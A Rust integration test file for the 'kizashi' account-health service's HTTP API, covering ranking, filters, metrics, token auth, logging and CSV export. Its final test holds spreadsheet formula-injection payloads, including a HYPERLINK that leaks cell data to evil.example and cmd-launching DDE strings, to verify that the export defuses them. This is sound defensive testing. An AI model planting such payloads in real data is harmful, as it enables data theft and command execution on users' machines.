//! The HTTP port on known data: `kizashi replay --serve` (the real binary) on a generated
//! population with a few bad lines, queried over TCP.

mod common;

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use common::served::Served;
use common::{get_json, http_get, metric};
use serde_json::Value;

/// Bad lines appended to the usage file, one per rejection class that a file can carry.
const BAD_USAGE: [&str; 4] = [
    "this is not json",
    "[1, 2]",
    r#"{"account_id":"acct-00001","user_id":"u1","feature":"x"}"#,
    r#"{"account_id":"acct-00001","user_id":"u1","feature":"x","ts":"yesterday"}"#,
];

/// Generates a population, adds bad lines, and starts `replay --serve` on it.
fn serve(accounts: usize, env: &[(&str, &str)]) -> Served {
    serve_limited(accounts, env, None, 0)
}

/// [`serve`], with the open-file limit set to `open_files` if given (`ulimit -n`), and `flood`
/// more bad lines.
fn serve_limited(accounts: usize, env: &[(&str, &str)], open_files: Option<u32>, flood: usize) -> Served {
    serve_prepared(accounts, env, open_files, flood, |_| {})
}

/// [`serve_limited`], with `prepare` run on the generated data directory before the replay.
fn serve_prepared(accounts: usize, env: &[(&str, &str)], open_files: Option<u32>, flood: usize, prepare: impl FnOnce(&Path)) -> Served {
    common::served::serve(accounts, env, open_files, |data| {
        let mut f = std::fs::OpenOptions::new().append(true).open(data.join("usage.jsonl")).unwrap();
        for l in BAD_USAGE {
            writeln!(f, "{l}").unwrap();
        }
        for i in 0..flood {
            writeln!(f, r#"{{"account_id":"a{i}","user_id":"u","event":"login","ts":"soon"}}"#).unwrap();
        }
        drop(f);
        prepare(data);
    })
}

fn profiles(data: &Path) -> BTreeMap<String, String> {
    std::fs::read_to_string(data.join("truth.jsonl"))
        .unwrap()
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap();
            (v["account_id"].as_str().unwrap().to_string(), v["profile"].as_str().unwrap().to_string())
        })
        .collect()
}

#[test]
fn replayed_state_is_served_ranked_and_explained() {
    let mut s = serve(80, &[]);
    let seen = s.wait_ready();
    assert!(seen.len() >= 2 && seen[0].0 == 503, "readiness starts at 503 while replaying, then 200: {seen:?}");
    assert!(seen[..seen.len() - 1].iter().all(|(st, reason)| *st == 503 && !reason.is_empty()), "{seen:?}");

    // The red queue: ranked by score, every entry red, and a declining or silent account in it.
    let (st, q) = get_json(&s.addr, "/v1/accounts?band=red&limit=1000", None);
    assert_eq!(st, 200, "{q}");
    let red = q["accounts"].as_array().unwrap();
    assert!(!red.is_empty() && red.len() as u64 == q["total"].as_u64().unwrap());
    assert!(red.iter().all(|a| a["band"] == "red"));
    let scores: Vec<f64> = red.iter().map(|a| a["score"].as_f64().unwrap()).collect();
    assert!(scores.windows(2).all(|w| w[0] <= w[1]), "ranked by score: {scores:?}");
    let truth = profiles(&s.data);
    let at_risk = red
        .iter()
        .map(|a| a["account_id"].as_str().unwrap())
        .find(|id| matches!(truth[*id].as_str(), "declining" | "inactive"))
        .unwrap_or_else(|| panic!("no declining/inactive account in the red queue: {q}"));

    // Its detail: what replay wrote as its final score, with measures, explanation and alerts.
    let (st, d) = get_json(&s.addr, &format!("/v1/accounts/{at_risk}"), None);
    assert_eq!(st, 200, "{d}");
    let finals = s.lines("scores.jsonl");
    let fin = finals.iter().find(|v| v["account_id"] == at_risk).unwrap();
    assert_eq!(d["score"], fin["score"]);
    assert_eq!(d["band"], "red");
    assert_eq!(d["scorecard"], fin["scorecard"]);
    assert_eq!(d["measures"], fin["measures"], "every measure with its value and points");
    let expl = d["explanation"].as_array().unwrap();
    assert!(!expl.is_empty() && expl.iter().all(|i| i["measure"].is_string()));
    assert!(d["summary"].as_str().unwrap().starts_with("Health score"), "{}", d["summary"]);
    assert_eq!(d["shortfall"], fin["shortfall"], "what keeps the score from 100, as the final score says");
    // Its most engaged users, busiest first, at most ten, each ranked and dated.
    let top = d["top_users"].as_array().unwrap();
    assert!(top.len() <= 10, "{d}");
    assert!(top.windows(2).all(|w| w[0]["active_days_28d"].as_u64() >= w[1]["active_days_28d"].as_u64()), "{top:?}");
    assert!(top.iter().all(|u| matches!(u["rank"].as_str(), Some("SS" | "S" | "A")) && u["last_seen"].is_string()), "{top:?}");
    let alerts = s.lines("alerts.jsonl");
    let last = d["last_alerts"].as_array().unwrap();
    assert!(!last.is_empty(), "an at-risk account has alerts: {d}");
    for a in last {
        assert!(
            alerts.iter().any(|x| x["alert_id"] == a["alert_id"] && x["account_id"] == at_risk && x["rule"] == a["rule"]),
            "{a} is one of the replay's alerts"
        );
    }

    // Paging and filters.
    let (_, all) = get_json(&s.addr, "/v1/accounts?limit=1000", None);
    let all = all["accounts"].as_array().unwrap().clone();
    let (_, page) = get_json(&s.addr, "/v1/accounts?limit=2&offset=1", None);
    assert_eq!(page["accounts"].as_array().unwrap()[..], all[1..3]);
    assert_eq!(page["next_offset"], 3);
    let (_, smb) = get_json(&s.addr, "/v1/accounts?segment=smb&limit=1000", None);
    let smb = smb["accounts"].as_array().unwrap();
    assert!(!smb.is_empty() && smb.len() < all.len() && smb.iter().all(|a| a["segment"] == "smb"));

    // Bad input: JSON errors naming the parameter, never a crash.
    for (path, word) in [
        ("/v1/accounts?band=purple", "band"),
        ("/v1/accounts?limit=0", "limit"),
        ("/v1/accounts?limit=abc", "limit"),
        ("/v1/accounts?offset=-1", "offset"),
        ("/v1/accounts?colour=red", "colour"),
    ] {
        let (st, e) = get_json(&s.addr, path, None);
        assert_eq!(st, 400, "{path}: {e}");
        assert!(e["message"].as_str().unwrap().contains(word), "{path}: {e}");
    }
    let (st, e) = get_json(&s.addr, "/v1/accounts/no-such-account", None);
    assert_eq!((st, e["message"].as_str().unwrap()), (404, "unknown account `no-such-account`"));
    let (st, _) = get_json(&s.addr, "/v1/nothing-here", None);
    assert_eq!(st, 404);
    assert_eq!(get_json(&s.addr, "/healthz", None).0, 200);
    assert!(s.child.try_wait().unwrap().is_none(), "still serving after bad input");
}

#[test]
fn metrics_count_the_events_rejects_and_alerts_of_the_run() {
    let mut s = serve(30, &[]);
    s.wait_ready();
    let (st, text) = http_get(&s.addr, "/metrics", None).unwrap();
    assert_eq!(st, 200);
    let count = |f: &str| std::fs::read_to_string(s.data.join(f)).unwrap().lines().count() as f64;
    for (topic, file) in [("product-usage", "usage.jsonl"), ("support-events", "support.jsonl"), ("accounts", "accounts.jsonl")] {
        let series = format!("kizashi_events_consumed_total{{topic=\"{topic}\"}}");
        assert_eq!(metric(&text, &series), Some(count(file)), "{series}");
    }
    let mut rejects: BTreeMap<String, f64> = BTreeMap::new();
    for r in s.lines("rejects.jsonl") {
        *rejects.entry(r["reason"].as_str().unwrap().to_string()).or_default() += 1.0;
    }
    assert_eq!(rejects.values().sum::<f64>(), BAD_USAGE.len() as f64);
    for reason in ["not_json", "not_object", "missing_field", "bad_type", "bad_value", "too_late", "ts_in_future"] {
        let series = format!("kizashi_events_rejected_total{{reason=\"{reason}\"}}");
        assert_eq!(metric(&text, &series), Some(rejects.get(reason).copied().unwrap_or(0.0)), "{series}");
    }
    let mut alerts: BTreeMap<String, f64> = BTreeMap::new();
    for a in s.lines("alerts.jsonl") {
        *alerts.entry(a["rule"].as_str().unwrap().to_string()).or_default() += 1.0;
    }
    assert!(!alerts.is_empty());
    for rule in ["entered_red", "score_drop", "inactive", "silent_decline", "ticket_spike", "urgent_ticket_aging"] {
        let series = format!("kizashi_alerts_total{{rule=\"{rule}\"}}");
        assert_eq!(metric(&text, &series), Some(alerts.get(rule).copied().unwrap_or(0.0)), "{series}");
    }
    let finals = s.lines("scores.jsonl");
    let banded: f64 = ["red", "yellow", "green"].iter().map(|b| metric(&text, &format!("kizashi_accounts{{band=\"{b}\"}}")).unwrap()).sum();
    assert_eq!(banded, finals.len() as f64);
    assert_eq!(metric(&text, "kizashi_ready"), Some(1.0));
    assert!(metric(&text, "kizashi_state_size_bytes").unwrap() > 0.0);
    assert_eq!(metric(&text, "kizashi_build_info{version=\"0.1.0\"}"), Some(1.0));
    // Every name kizashi documents is exported (consumer lag needs Kafka partitions: see the
    // pipeline tests).
    for name in kizashi::metrics::NAMES.iter().filter(|n| **n != "kizashi_consumer_lag_records") {
        assert!(text.contains(&format!("# TYPE {name} ")), "{name} is not exported");
    }
}

#[test]
fn the_token_guards_v1_and_never_reaches_the_logs() {
    let token = "s3cret-t0ken";
    let mut s = serve(10, &[("KIZASHI__HTTP__TOKEN", token)]);
    s.wait_ready();
    let (st, e) = get_json(&s.addr, "/v1/accounts", None);
    assert_eq!(st, 401, "{e}");
    assert!(e["message"].is_string());
    assert_eq!(get_json(&s.addr, "/v1/accounts", Some("wrong")).0, 401);
    assert_eq!(get_json(&s.addr, "/v1/accounts/acct-00000", Some("s3cret")).0, 401, "a prefix is not the token");
    assert_eq!(get_json(&s.addr, "/v1/accounts", Some(token)).0, 200);
    assert_eq!(get_json(&s.addr, "/v1/accounts/acct-00000", Some(token)).0, 200);
    // The scheme is case-insensitive (RFC 7235); the token is not.
    for scheme in ["bearer", "BEARER", "bEaReR"] {
        assert_eq!(raw_get(&s.addr, "/v1/accounts", &format!("Authorization: {scheme} {token}")).0, 200, "{scheme}");
    }
    assert_eq!(raw_get(&s.addr, "/v1/accounts", &format!("Authorization: Bearer {}", token.to_uppercase())).0, 401);
    assert_eq!(raw_get(&s.addr, "/v1/accounts", &format!("Authorization: Basic {token}")).0, 401);
    // A path that tries to end the log line's field and forge another.
    assert_eq!(raw_get(&s.addr, "/v1/accounts/x\"%20level=ERROR", "Authorization: Bearer forged").0, 401);
    // Probes and metrics stay open.
    assert_eq!(http_get(&s.addr, "/metrics", None).unwrap().0, 200);
    assert_eq!(http_get(&s.addr, "/readyz", None).unwrap().0, 200);
    assert_eq!(http_get(&s.addr, "/healthz", None).unwrap().0, 200);
    let _ = s.child.kill();
    let _ = s.child.wait();
    let log = s.log();
    assert!(!log.contains(token) && !log.contains("forged"), "a presented token appears in the logs:\n{log}");
    // Each 401 (6 above, within the log's burst) is a warning with its method and path.
    let refused: Vec<&str> = log.lines().filter(|l| l.contains("request refused: 401 Unauthorized")).collect();
    assert_eq!(refused.len(), 6, "{log}");
    assert!(refused.iter().all(|l| l.contains("WARN") && l.contains("method=\"GET\"")), "{refused:?}");
    assert!(refused[0].contains("path=\"/v1/accounts\"") && refused[0].contains("reason=\"no Authorization header\""), "{}", refused[0]);
    assert!(refused[1].contains("reason=\"wrong token\""), "{}", refused[1]);
    assert!(refused.iter().any(|l| l.contains("reason=\"not a Bearer credential\"")), "{refused:?}");
    assert!(
        refused.last().unwrap().contains(r#"path="/v1/accounts/x\"%20level=ERROR""#),
        "the quote in the path is escaped: {}",
        refused.last().unwrap()
    );
    // check-config shows it masked.
    let out = Command::new(env!("CARGO_BIN_EXE_kizashi")).arg("check-config").env("KIZASHI__HTTP__TOKEN", token).output().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success() && shown.contains("token = \"***\"") && !shown.contains(token), "{shown}");
}

#[test]
fn logs_are_json_lines_when_configured_with_fields_for_each_rejected_record() {
    let mut s = serve(5, &[("KIZASHI__LOG__FORMAT", "json")]);
    s.wait_ready();
    let _ = s.child.kill();
    let _ = s.child.wait();
    let log = s.log();
    let lines: Vec<Value> = log
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect();
    assert!(lines.len() >= BAD_USAGE.len(), "{log}");
    let rejected: Vec<&Value> = lines.iter().filter(|l| l["fields"]["message"] == "record rejected").collect();
    assert_eq!(rejected.len(), BAD_USAGE.len(), "{log}");
    assert_eq!(rejected[0]["fields"]["reason"], "not_json");
    assert_eq!(rejected[0]["level"], "WARN");
}

/// A stream of bad records is logged in a burst, then a line a second saying how many were not
/// logged; the counter and the rejects file have every one.
#[test]
fn a_flood_of_bad_records_is_logged_in_a_burst_and_counted_whole() {
    let flood = 2_000;
    let mut s = serve_limited(5, &[], None, flood);
    s.wait_ready();
    let (_, metrics) = http_get(&s.addr, "/metrics", None).unwrap();
    let _ = s.child.kill();
    let _ = s.child.wait();
    let log = s.log();
    let rejected: Vec<&str> = log.lines().filter(|l| l.contains("record rejected")).collect();
    // 10 at once, then one a second: the replay takes a few seconds at most.
    assert!((10..=40).contains(&rejected.len()), "{} lines for {} rejects:\n{log}", rejected.len(), flood + BAD_USAGE.len());
    let counted: f64 = metrics.lines().filter(|l| l.starts_with("kizashi_events_rejected_total{")).filter_map(|l| l.rsplit_once(' ')?.1.parse::<f64>().ok()).sum();
    assert_eq!(counted, (flood + BAD_USAGE.len()) as f64, "every reject counted");
    let file = std::fs::read_to_string(s.out.join("rejects.jsonl")).unwrap();
    assert_eq!(file.lines().count(), flood + BAD_USAGE.len(), "every reject in the file");
}

/// A GET with one extra header line (`Connection: close`): status and body.
fn raw_get(addr: &str, path: &str, header: &str) -> (u16, String) {
    use std::io::Read;
    let mut c = std::net::TcpStream::connect(addr).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    write!(c, "GET {path} HTTP/1.1\r\nHost: {addr}\r\n{header}\r\nConnection: close\r\n\r\n").unwrap();
    let mut raw = String::new();
    c.read_to_string(&mut raw).unwrap();
    let status = raw.split_whitespace().nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    (status, raw)
}

#[test]
fn a_half_sent_request_does_not_keep_the_process_from_exiting_on_sigterm() {
    // Timeouts longer than the test: only shutdown can close the connection.
    let mut s = serve(5, &[("KIZASHI__HTTP__HEADER_TIMEOUT", "5m"), ("KIZASHI__HTTP__IDLE_TIMEOUT", "5m")]);
    s.wait_ready();
    let mut half = std::net::TcpStream::connect(&s.addr).unwrap();
    half.write_all(b"GET /healthz HTTP/1.1\r\nHost: kizashi\r\n").unwrap();
    assert_eq!(http_get(&s.addr, "/healthz", None).map(|r| r.0), Some(200));
    let killed = Command::new("kill").args(["-TERM", &s.child.id().to_string()]).status().unwrap();
    assert!(killed.success());
    let start = Instant::now();
    let status = loop {
        if let Some(st) = s.child.try_wait().unwrap() {
            break st;
        }
        assert!(start.elapsed() < Duration::from_secs(20), "still running 20 s after SIGTERM:\n{}", s.log());
        std::thread::sleep(Duration::from_millis(20));
    };
    assert!(status.success(), "{status}:\n{}", s.log());
}

#[test]
fn with_a_low_open_file_limit_healthz_answers_past_hundreds_of_half_sent_requests() {
    // 128 descriptors: the connection limit becomes 64, leaving the rest to RocksDB and the process.
    let mut s = serve_limited(5, &[("KIZASHI__HTTP__HEADER_TIMEOUT", "5m")], Some(128), 0);
    s.wait_ready();
    let held: Vec<std::net::TcpStream> = (0..200)
        .map(|_| {
            let mut c = std::net::TcpStream::connect(&s.addr).unwrap();
            c.write_all(b"GET /healthz HTTP/1.1\r\nHost: kizashi\r\n").unwrap();
            c
        })
        .collect();
    for i in 0..10 {
        assert_eq!(http_get(&s.addr, "/healthz", None).map(|r| r.0), Some(200), "probe {i}:\n{}", s.log());
    }
    let (_, text) = http_get(&s.addr, "/metrics", None).unwrap();
    assert!(metric(&text, "kizashi_http_connections").unwrap() <= 64.0, "{text}");
    assert!(metric(&text, "kizashi_http_connections_closed_total{reason=\"evicted\"}").unwrap() >= 136.0, "{text}");
    assert!(s.log().contains("http.max_connections lowered to half the open-file limit"), "{}", s.log());
    drop(held);
}

/// The queue behind the workspace page: per-measure values and points, the owner and rule
/// filters, the ARR-at-risk and renewal orders, CSV, and the portfolio summary agreeing with it.
#[test]
fn the_queue_filters_sorts_exports_and_sums_up() {
    let mut s = serve(80, &[]);
    s.wait_ready();
    let all = |q: &str| {
        let (st, v) = get_json(&s.addr, &format!("/v1/accounts?limit=1000{q}"), None);
        assert_eq!(st, 200, "{q}: {v}");
        v
    };
    let risk = all("");
    let rows = risk["accounts"].as_array().unwrap();
    assert!(!rows.is_empty());
    // Every row carries its scorecard's measures with value and points, for the heatmap.
    for r in rows {
        let ms = r["measures"].as_array().unwrap();
        assert!(!ms.is_empty(), "{r}");
        for m in ms {
            assert!(m["measure"].is_string());
            if let Some(p) = m["points"].as_f64() {
                assert!((0.0..=100.0).contains(&p), "{m}");
            }
        }
    }
    // Owner: generated accounts have one of six; the filter narrows to exactly that owner's.
    let owner = rows[0]["owner"].as_str().expect("generated accounts have an owner").to_string();
    let mine = all(&format!("&owner={}", owner.replace(' ', "%20")));
    let mine_rows = mine["accounts"].as_array().unwrap();
    assert!(!mine_rows.is_empty() && mine_rows.len() < rows.len());
    assert!(mine_rows.iter().all(|r| r["owner"] == owner.as_str()));
    assert_eq!(mine_rows.len(), rows.iter().filter(|r| r["owner"] == owner.as_str()).count());
    // Touch tier: every row says its tier; the filter keeps exactly that tier's rows, and the
    // alerts and scores carry the same tier as the queue (enterprise, or ARR ≥ 50,000: high;
    // ARR < 5,000: tech).
    for tier in ["high", "low", "tech"] {
        let t = all(&format!("&tier={tier}"));
        let t_rows = t["accounts"].as_array().unwrap();
        assert!(!t_rows.is_empty(), "some {tier}-touch accounts");
        assert!(t_rows.iter().all(|r| r["tier"] == tier), "{tier}: {t}");
        assert_eq!(t_rows.len(), rows.iter().filter(|r| r["tier"] == tier).count(), "{tier}");
        for r in t_rows {
            let arr = r["arr"].as_f64().unwrap_or(-1.0);
            let expected = if r["segment"] == "enterprise" || arr >= 50_000.0 { "high" } else if (0.0..5_000.0).contains(&arr) { "tech" } else { "low" };
            assert_eq!(expected, tier, "{r}");
        }
    }
    let scores = s.lines("scores.jsonl");
    for r in rows {
        let sc = scores.iter().find(|x| x["account_id"] == r["account_id"]).unwrap();
        assert_eq!(sc["tier"], r["tier"], "{sc}");
    }
    // ARR at risk: red and yellow only, the most ARR first.
    let arr = all("&sort=arr_at_risk");
    let arr_rows = arr["accounts"].as_array().unwrap();
    assert!(arr_rows.iter().all(|r| r["band"] == "red" || r["band"] == "yellow"));
    let arrs: Vec<f64> = arr_rows.iter().map(|r| r["arr"].as_f64().unwrap_or(0.0)).collect();
    assert!(arrs.windows(2).all(|w| w[0] >= w[1]), "{arrs:?}");
    assert_eq!(arr_rows.len(), rows.iter().filter(|r| r["band"] != "green").count());
    // Renewal: soonest first.
    let ren = all("&sort=renewal");
    let dates: Vec<&str> = ren["accounts"].as_array().unwrap().iter().filter_map(|r| r["renewal_date"].as_str()).collect();
    assert!(dates.windows(2).all(|w| w[0] <= w[1]), "{dates:?}");
    // Rule: accounts whose recent alerts include one.
    let inactive = all("&rule=inactive");
    let ids: Vec<&str> = inactive["accounts"].as_array().unwrap().iter().map(|r| r["account_id"].as_str().unwrap()).collect();
    let alerts = s.lines("alerts.jsonl");
    assert!(!ids.is_empty());
    for id in &ids {
        assert!(alerts.iter().any(|a| a["account_id"] == *id && a["rule"] == "inactive"), "{id}");
    }
    // Bad values: 400 naming the parameter.
    for (q, name) in [("sort=worst", "sort"), ("rule=nope", "rule"), ("format=xml", "format"), ("band=blue", "band"), ("tier=gold", "tier")] {
        let (st, v) = get_json(&s.addr, &format!("/v1/accounts?{q}"), None);
        assert_eq!(st, 400, "{q}");
        assert!(v["message"].as_str().unwrap().starts_with(name), "{q}: {v}");
    }
    // CSV: the same rows.
    let (st, csv) = http_get(&s.addr, "/v1/accounts?limit=1000&format=csv", None).unwrap();
    assert_eq!(st, 200);
    let lines: Vec<&str> = csv.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert!(lines[0].starts_with("rank,account_id,name,score,band,segment,owner,arr,seats,renewal_date,last_alert,tier,status,snoozed_until,scored_band,"), "{}", lines[0]);
    assert_eq!(lines.len() - 1, rows.len());
    assert!(lines[1].starts_with(&format!("1,{},", rows[0]["account_id"].as_str().unwrap())));
    // Summary: its band counts are the queue's.
    let (st, sum) = get_json(&s.addr, "/v1/summary", None);
    assert_eq!(st, 200, "{sum}");
    for band in ["red", "yellow", "green"] {
        let n = rows.iter().filter(|r| r["band"] == band).count() as f64;
        assert_eq!(sum["accounts"][band].as_f64(), Some(n), "{band}: {sum}");
        let arr: f64 = rows.iter().filter(|r| r["band"] == band).map(|r| r["arr"].as_f64().unwrap_or(0.0)).sum();
        assert!((sum["arr"][band].as_f64().unwrap() - arr).abs() < 1e-6, "{band}: {sum}");
    }
    assert!(sum["day"].is_string() && sum["alerts_by_rule"].is_object(), "{sum}");
    let (st, _) = get_json(&s.addr, "/v1/summary?day=someday", None);
    assert_eq!(st, 400);
}

/// An account's story: its daily score and band, and the alerts on the days they fired.
#[test]
fn history_holds_the_daily_scores_and_the_alerts() {
    let mut s = serve(80, &[]);
    s.wait_ready();
    let alerts = s.lines("alerts.jsonl");
    let finals = s.lines("scores.jsonl");
    let a = alerts.iter().find(|a| a["kind"] == "risk").expect("a risk alert");
    let id = a["account_id"].as_str().unwrap();
    let (st, h) = get_json(&s.addr, &format!("/v1/accounts/{id}/history"), None);
    assert_eq!(st, 200, "{h}");
    let days = h["days"].as_array().unwrap();
    assert!(!days.is_empty() && days.len() <= 90, "{}", days.len());
    let dates: Vec<&str> = days.iter().map(|d| d["day"].as_str().unwrap()).collect();
    assert!(dates.windows(2).all(|w| w[0] < w[1]), "one entry a day, in order");
    let last = days.last().unwrap();
    let fin = finals.iter().find(|f| f["account_id"] == id).unwrap();
    assert_eq!(last["score"], fin["score"], "the last day's score is the final score");
    assert_eq!(last["band"], fin["band"]);
    // Every alert of the account in the 90 days is on its day.
    let marks = h["alerts"].as_array().unwrap();
    let first_day = dates[0];
    for x in alerts.iter().filter(|x| x["account_id"] == id && x["event_time"].as_str().unwrap()[..10] >= *first_day) {
        let day = &x["event_time"].as_str().unwrap()[..10];
        assert!(marks.iter().any(|m| m["day"] == *day && m["rule"] == x["rule"]), "{x} not in {marks:?}");
    }
    let (st, _) = get_json(&s.addr, "/v1/accounts/nobody/history", None);
    assert_eq!(st, 404);
    // The account page's other panels: recent alerts with their summaries, open tickets.
    let (st, d) = get_json(&s.addr, &format!("/v1/accounts/{id}"), None);
    assert_eq!(st, 200);
    let recent = d["last_alerts"].as_array().unwrap();
    assert!(!recent.is_empty());
    for r in recent {
        let full = alerts.iter().find(|x| x["alert_id"] == r["alert_id"]).expect("a replayed alert");
        let sum = r["summary"].as_str().unwrap();
        assert!(!sum.is_empty() && full["summary"].as_str().unwrap().starts_with(sum), "{r}");
    }
    let tickets = d["open_tickets"].as_array().unwrap();
    assert_eq!(tickets.len() as u64, d["open_ticket_count"].as_u64().unwrap().min(20));
}

/// Account names as a CRM might hold them, each starting with a character that makes a
/// spreadsheet run the cell as a formula, and how the CSV export writes each: behind a `'`, then
/// quoted where the cell holds a quote, a comma or a line break.
const FORMULA_NAMES: [(&str, &str); 6] = [
    ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\""),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\tTabbed Corp", "'\tTabbed Corp"),
    ("\rReturned Corp", "\"'\rReturned Corp\""),
];

#[test]
fn the_csv_export_defuses_formulas_in_names_and_comes_as_an_attachment() {
    // The first six accounts get the hostile names, in every record of theirs.
    let mut s = serve_prepared(20, &[], None, 0, |data| {
        let path = data.join("accounts.jsonl");
        let text = std::fs::read_to_string(&path).unwrap();
        let mut out = String::new();
        for line in text.lines() {
            let mut v: Value = serde_json::from_str(line).unwrap();
            let id = v["account_id"].as_str().unwrap().to_string();
            if let Some((name, _)) = id.strip_prefix("acct-0000").and_then(|n| n.parse::<usize>().ok()).and_then(|i| FORMULA_NAMES.get(i)) {
                v["name"] = Value::from(*name);
            }
            out.push_str(&format!("{v}\n"));
        }
        std::fs::write(&path, out).unwrap();
    });
    s.wait_ready();
    let (st, raw) = raw_get(&s.addr, "/v1/accounts?limit=1000&format=csv", "Accept: text/csv");
    assert_eq!(st, 200, "{raw}");
    let (head, csv) = raw.split_once("\r\n\r\n").unwrap();
    let head = head.to_ascii_lowercase();
    assert!(head.contains("\r\ncontent-disposition: attachment; filename=\"kizashi-accounts.csv\"\r\n"), "{head}");
    assert!(head.contains("\r\ncontent-type: text/csv"), "{head}");
    assert!(head.contains("\r\nx-content-type-options: nosniff\r\n"), "{head}");
    for (i, (name, written)) in FORMULA_NAMES.iter().enumerate() {
        let id = format!("acct-0000{i}");
        // The JSON keeps the name as the CRM wrote it.
        let (_, d) = get_json(&s.addr, &format!("/v1/accounts/{id}"), None);
        assert_eq!(d["facts"]["name"], *name, "{d}");
        let cell = format!(",{id},{written},");
        assert!(csv.contains(&cell), "`{cell}` not in the CSV:\n{csv}");
    }
    // The hostile names did not break the rows apart: a header and a line per account.
    let (_, q) = get_json(&s.addr, "/v1/accounts?limit=1000", None);
    let lines = csv.split("\r\n").filter(|l| !l.is_empty()).count();
    assert_eq!(lines as u64, q["total"].as_u64().unwrap() + 1, "{csv}");
}
